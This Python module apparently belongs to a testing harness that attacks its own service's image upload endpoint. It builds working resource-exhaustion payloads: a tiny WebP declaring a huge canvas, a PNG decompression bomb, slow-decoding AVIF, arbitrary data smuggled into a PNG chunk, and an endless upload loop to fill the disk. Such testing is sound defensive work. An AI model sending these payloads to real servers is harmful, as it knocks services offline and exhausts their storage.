"""Attacks by pictures that are small to send and large or slow to decode."""

import io
import random
import struct
import zlib

from PIL import Image

from servers.http_connection import Response
from siege.attack import attack
from siege.attacker import Attacker


def noise_png(width: int, height: int) -> bytes:
    """Returns a PNG of noise, which no format can compress."""
    return _saved(_noise(width, height), "PNG", compress_level=0)


def plain_png(width: int, height: int) -> bytes:
    """Returns a PNG of one colour, which is a thousand times larger once it is decoded."""
    compressor = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def huge_webp() -> bytes:
    """Returns a WebP of one colour with a canvas of 134 million pixels, in 38 bytes."""
    sides = (16_383 - 1) | (8_192 - 1) << 14
    pixels = b"\x2f" + sides.to_bytes(4, "little") + b"\x88\x88\x08" + bytes(10)
    chunk = b"VP8L" + struct.pack("<I", len(pixels)) + pixels
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


@attack("1 request a second of 38 bytes")
async def webp_with_a_huge_canvas(attacker: Attacker) -> None:
    """Uploads a WebP of one colour, with a canvas of 134 million pixels. It stalled everyone for a second."""
    body = huge_webp()
    await attacker.begin()
    await attacker.at_rate(1, lambda _: _upload(attacker, body, "image/webp"))


@attack("1 request every 2 seconds of 3 MB")
async def slow_avif(attacker: Attacker) -> None:
    """Uploads noise as AVIF, which takes 10 s to decode and encode. 11 MB held the only thread for 100 s."""
    body = _saved(_noise(400, 400).resize((4000, 4000)), "AVIF", quality=80, speed=10)
    await attacker.begin()
    await attacker.at_rate(0.5, lambda _: _upload(attacker, body, "image/avif"))


@attack("1 request a second of 0.4 MB")
async def png_bomb(attacker: Attacker) -> None:
    """Uploads a PNG of one colour with as many pixels as are taken: 400 MB once it is decoded."""
    body = plain_png(16_384, 8_192)
    await attacker.begin()
    await attacker.at_rate(1, lambda _: _upload(attacker, body, "image/png"))


@attack("1 request a second of 1 MB")
async def a_file_hidden_in_a_picture(attacker: Attacker) -> None:
    """Uploads a small picture with 1 MB after its pixels, and fetches it. All of it was stored and served."""
    hidden = random.Random(2).randbytes(1 << 20)
    picture = plain_png(64, 32)
    end = picture.rindex(b"IDAT") + 4
    length = int.from_bytes(picture[end - 8 : end - 4], "big")
    pixels = picture[end : end + length]
    body = picture[: end - 8] + _chunk(b"IDAT", pixels + hidden) + picture[end + length + 4 :]
    await attacker.begin()

    async def upload_and_fetch(_: int) -> None:
        answer = await _upload(attacker, body, "image/png")
        if answer is not None and answer.status == 200 and answer.json()["sizeBytes"] > len(hidden):
            attacker.count("served what was hidden")

    await attacker.at_rate(1, upload_and_fetch)


@attack("4 uploads a second of 3 MB")
async def images_until_the_disk_is_full(attacker: Attacker) -> None:
    """Uploads pictures under new names, and never stops. One connection stored 382 MB in 14 s."""
    body = noise_png(1000, 1000)
    await attacker.begin()
    await attacker.at_rate(4, lambda number: _upload(attacker, body, "image/png", f"n{number}"))


async def _upload(attacker: Attacker, body: bytes, media_type: str, name: str = "picture") -> Response | None:
    path = f"/v1/manage/venues/{attacker.task.venue_id}/imagery/{name}"
    return await attacker.send("PUT", path, body, media_type=media_type)


def _noise(width: int, height: int) -> Image.Image:
    return Image.frombytes("RGB", (width, height), random.Random(1).randbytes(width * height * 3))


def _saved(image: Image.Image, format_: str, **options: object) -> bytes:
    file = io.BytesIO()
    image.save(file, format_, **options)
    return file.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
